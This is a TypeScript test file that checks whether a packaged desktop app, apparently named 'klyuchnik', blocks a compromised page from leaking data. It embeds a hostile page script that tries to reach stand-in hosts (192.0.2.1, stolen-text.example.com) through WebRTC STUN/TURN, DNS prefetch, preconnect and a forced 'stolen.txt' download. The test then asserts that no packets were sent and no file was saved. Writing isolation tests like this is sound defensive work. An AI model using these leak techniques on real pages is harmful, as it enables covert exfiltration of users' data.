// @module-tag may-run-again
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startSession, type Session } from '../../scripts/session.ts';
import { packHostilePage } from './hostile-page.ts';
import { PackedApp } from './packed-app.ts';

/** A network of its own in which every address is this computer, so that nothing is lost on the way. */
const OWN_NETWORK = [
  'unshare',
  ...(process.getuid?.() === 0 ? ['--net'] : ['--net', '--map-root-user']),
  'sh',
  '-c',
  'ip link set lo up && ip route add local default dev lo && exec "$0" "$@"',
];

/** Addresses for documentation. Source: RFC 5737; RFC 2606 for the name. */
const ADDRESS = '192.0.2.1';

/** Said by the page in its title, which a stranger outside can read. */
const TRIED = 'everything was tried';

/** What a script in the page could try: WebRTC in each of its ways, names and connections ahead, a download. */
const SCRIPT = `
const gathered = (servers) => new Promise((resolve) => {
  setTimeout(resolve, 2000); // without any way out it may never end
  const line = new RTCPeerConnection({ iceServers: servers });
  line.createDataChannel('x');
  line.onicegatheringstatechange = () => line.iceGatheringState === 'complete' && resolve();
  line.createOffer().then((offer) => line.setLocalDescription(offer));
});
const linked = (rel, href) => {
  const link = document.createElement('link');
  link.rel = rel;
  link.href = href;
  document.head.append(link);
};
const login = { username: 'stolen-text', credential: 'x' };
addEventListener('load', async () => {
  linked('dns-prefetch', '//stolen-text.example.com');
  linked('preconnect', 'https://${ADDRESS}/');
  linked('prefetch', 'https://${ADDRESS}/');
  const saved = document.createElement('a');
  saved.href = URL.createObjectURL(new Blob(['stolen-text']));
  saved.download = 'stolen.txt';
  saved.click();
  await gathered([]);
  await gathered([{ urls: 'stun:${ADDRESS}:3478' }]);
  await gathered([{ urls: 'stun:stolen-text.example.com:3478' }]);
  await gathered([{ urls: 'turn:${ADDRESS}:3478?transport=udp', ...login }]);
  await gathered([{ urls: 'turn:${ADDRESS}:3478?transport=tcp', ...login }]);
  await gathered([{ urls: 'turns:${ADDRESS}:5349?transport=tcp', ...login }]);
  setInterval(() => { document.title = '${TRIED}'; }, 100);
});
`;

let session: Session;

beforeAll(async () => {
  session = await startSession({ keyring: 'unlocked', display: 'own' });
});
afterAll(async () => session?.stop());

it('lets a page that was taken over send nothing, look up nothing and save nothing', async () => {
  const folder = path.join(session.homeDir, 'hostile');
  await packHostilePage(folder, SCRIPT);
  const app = new PackedApp({
    program: path.join(folder, 'klyuchnik'),
    env: session.env,
    within: OWN_NETWORK,
  });
  try {
    await app.whenShown();
    await app.whenTitle((title) => title === TRIED);

    expect(sentBy(app.child.pid ?? 0)).toEqual({ udp: 0, tcp: 0 });
    expect(filesIn(session.homeDir).filter((name) => name.endsWith('stolen.txt'))).toEqual([]);
  } finally {
    app.kill();
  }
});

/**
 * Returns what the network of that process has sent: datagrams, names that are looked up among them, and connections
 * that were begun. Source: proc(5), /proc/pid/net/snmp; RFC 2013 udpOutDatagrams, RFC 2012 tcpActiveOpens.
 */
function sentBy(pid: number): { readonly udp: number; readonly tcp: number } {
  const lines = readFileSync(`/proc/${pid}/net/snmp`, 'utf8').split('\n');
  const count = (protocol: string, name: string): number => {
    const [names, values] = lines
      .filter((line) => line.startsWith(`${protocol}: `))
      .map((line) => line.split(' '));
    return Number(values?.[names?.indexOf(name) ?? -1]);
  };
  return { udp: count('Udp', 'OutDatagrams'), tcp: count('Tcp', 'ActiveOpens') };
}

function filesIn(folder: string): readonly string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' });
}
